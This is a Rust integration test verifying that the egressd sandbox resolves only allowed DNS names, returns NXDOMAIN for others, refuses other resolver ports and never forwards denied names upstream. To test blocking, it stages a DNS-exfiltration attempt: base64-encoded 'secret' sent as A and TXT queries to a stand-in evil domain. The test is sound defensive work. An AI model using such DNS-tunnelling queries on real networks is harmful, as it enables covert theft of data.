//! The sandbox's DNS: allowed names resolve through egressd whatever resolver the sandbox
//! names, everything else gets NXDOMAIN, and no denied name ever reaches the upstream
//! resolver (the fake DNS server's question log proves it).

use std::fs;

use egressd_tests::{API, EVIL, EgressdCommand, FakeDns, Output, Scene, privileged};
use serde_json::Value;

use crate::text;

/// A sandbox allowing API, whose proxy resolves through `dns` and may reach API's private
/// test address.
fn sandbox(s: &Scene, dns: &FakeDns) -> EgressdCommand {
    let config = s.scratch.path("dns.toml");
    fs::write(
        &config,
        format!(
            "dns_servers = [\"{}\"]\n\n[[rule]]\ndomain = \"{API}\"\nallow_private = true\n",
            dns.addr()
        ),
    )
    .unwrap();
    EgressdCommand::new()
        .arg("--config")
        .arg(&config)
        .audit_log(&s.audit_log)
}

fn probe_lines(out: &Output, action: &str) -> Vec<Value> {
    out.json_lines()
        .into_iter()
        .filter(|l| l["action"] == action)
        .collect()
}

#[test]
fn allowed_names_resolve_and_the_rest_never_leave_the_sandbox() {
    if !privileged() {
        return;
    }
    let s = Scene::new();
    let dns = FakeDns::start(
        &s.net,
        s.net.addr().into(),
        &[(API, s.net.addr().into()), (EVIL, s.net.addr2().into())],
    );
    let probe = s.probe.display().to_string();
    let secret = format!("c2VjcmV0.{EVIL}");
    // Resolvers the sandbox might name: a TEST-NET "public" one, IPv6, and the loopback
    // stub (127.0.0.53) that would otherwise forward anything to the host's resolver.
    let script = [
        format!("{probe} dns 192.0.2.53:53 {API} A dns 192.0.2.53:53 {API} TXT dns 192.0.2.53:53 {API} HTTPS"),
        format!("{probe} dns 192.0.2.53:53 {secret} A dns 192.0.2.53:53 {secret} TXT dns 127.0.0.53:53 {EVIL} A"),
        format!("{probe} dns-tcp 192.0.2.53:53 {API} A dns-tcp 192.0.2.53:53 {secret} TXT"),
        format!("{probe} dns [2001:db8::53]:53 {API} A udp 192.0.2.53:5353 udp 192.0.2.53:853"),
        // An ordinary tool: curl resolves API through the system resolver, no --resolve.
        format!(
            "curl -sS --max-time 10 --cacert {} https://{API}/; echo",
            s.ca_pem.display()
        ),
    ]
    .join("; ");
    let out = sandbox(&s, &dns).sh(&script).run();
    out.assert_success();

    let dns_lines = probe_lines(&out, "dns");
    let tcp_lines = probe_lines(&out, "dns-tcp");
    assert_eq!(dns_lines.len(), 7, "\n{out}");
    assert_eq!(tcp_lines.len(), 2, "\n{out}");
    let by = |lines: &[Value], name: &str, rtype: &str| -> Value {
        lines
            .iter()
            .find(|l| l["name"] == name && l["type"] == rtype)
            .cloned()
            .unwrap_or_else(|| panic!("no answer for {name} {rtype}\n{out}"))
    };
    let api_a = by(&dns_lines, API, "A");
    assert_eq!(api_a["rcode"], "NOERROR", "{api_a}");
    assert_eq!(api_a["answers"], 1, "{api_a}");
    // The reply shows the resolver the probe asked, not egressd's listener (recvmsg hook).
    assert_eq!(api_a["from"], "192.0.2.53:53", "{api_a}");
    for rtype in ["TXT", "HTTPS"] {
        let l = by(&dns_lines, API, rtype);
        assert_eq!(
            (l["rcode"].clone(), l["answers"].clone()),
            ("NOERROR".into(), 0.into()),
            "{l}"
        );
    }
    for (name, rtype) in [
        (secret.as_str(), "A"),
        (secret.as_str(), "TXT"),
        (EVIL, "A"),
    ] {
        let l = by(&dns_lines, name, rtype);
        assert_eq!(l["rcode"], "NXDOMAIN", "{l}");
    }
    assert_eq!(by(&tcp_lines, API, "A")["answers"], 1, "\n{out}");
    assert_eq!(
        by(&tcp_lines, &secret, "TXT")["rcode"],
        "NXDOMAIN",
        "\n{out}"
    );
    let v6 = dns_lines
        .iter()
        .find(|l| l["target"] == "[2001:db8::53]:53")
        .unwrap_or_else(|| panic!("no IPv6 DNS line\n{out}"));
    assert_eq!(v6["rcode"], "NOERROR", "{v6}");

    // Other resolver ports (mDNS, DoT over UDP) are refused outright.
    for udp in probe_lines(&out, "udp") {
        assert_eq!(udp["errno"], "EPERM", "{udp}\n{out}");
    }
    assert!(
        out.stdout.contains(&format!("hello from {API} via {API}")),
        "curl should have resolved {API} through the sandbox DNS\n{out}"
    );

    // The upstream resolver never heard of the denied names.
    let asked = dns.questions();
    assert!(
        asked.iter().all(|q| !q.contains(EVIL)),
        "a denied name reached the upstream resolver: {asked:?}"
    );
    assert!(dns.asked_about(API) > 0, "{asked:?}");

    // One audit record per query, with its type.
    let audit = out.audit();
    let txt = audit
        .iter()
        .find(|r| {
            r["proto"] == "dns" && r["name"] == secret.to_ascii_lowercase() && r["qtype"] == "TXT"
        })
        .unwrap_or_else(|| panic!("no DNS audit record for the TXT query\n{out}"));
    assert_eq!(txt["decision"], "deny", "{txt}");
    assert!(!text(&txt["reason"]).is_empty(), "{txt}");
    assert!(out.summary().contains("DNS queries"), "\n{out}");
}
